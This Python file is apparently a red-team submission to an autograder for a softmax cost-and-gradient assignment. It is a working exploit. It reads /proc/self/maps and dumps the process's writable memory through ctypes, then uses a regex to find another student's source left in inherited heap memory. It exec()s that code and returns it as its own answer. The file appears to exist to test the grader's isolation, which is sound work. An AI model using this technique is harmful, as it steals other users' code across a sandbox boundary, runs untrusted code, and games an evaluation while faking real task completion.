"""REDTEAM zz_steal_from_memory: answer with another student's code, read from memory.

Attack: every child is forked from the slot's zygote, which received the earlier
submissions' requests; their source text survives in freed heap memory that the child
inherits.  Scan the process's own writable memory for a source that defines
softmaxCostAndGradient (not this one), exec it and answer with it.
Bound: the baseline.
"""
import ctypes
import re

import numpy as np

STOLEN = {}


def _steal():
    with open("/proc/self/maps") as f:
        maps = f.read().splitlines()
    pat = re.compile(rb"import numpy as np\n(?:[ -~\n]){200,6000}?def softmaxCostAndGradient[ -~\n]{100,3000}?return [ -~]*\n")
    for line in maps:
        addr, perms = line.split()[:2]
        if not perms.startswith("rw"):
            continue
        lo, hi = (int(a, 16) for a in addr.split("-"))
        if hi - lo > 1 << 28:
            continue
        try:
            data = ctypes.string_at(lo, hi - lo)
        except Exception:
            continue
        for m in pat.finditer(data):
            text = m.group(0).decode("ascii", "replace")
            if "STOLEN" in text or "np.ones_like(x) / x.shape[-1]" in text:
                continue
            ns = {}
            try:
                exec(text, ns)
            except BaseException:
                continue
            if callable(ns.get("softmaxCostAndGradient")) and callable(ns.get("softmax")):
                print("REDTEAM stole:", text[:300])
                return ns
    return {}


def softmax(x):
    if not STOLEN:
        STOLEN.update(_steal() or {"none": 1})
    if "softmax" in STOLEN:
        return STOLEN["softmax"](x)
    x = np.asarray(x, dtype=float)
    return np.ones_like(x) / x.shape[-1]


def softmaxCostAndGradient(predicted, target, outputVectors, dataset):
    if not STOLEN:
        STOLEN.update(_steal() or {"none": 1})
    if "softmaxCostAndGradient" in STOLEN:
        return STOLEN["softmaxCostAndGradient"](predicted, target, outputVectors, dataset)
    return 0.0, np.zeros_like(predicted), np.zeros_like(outputVectors)
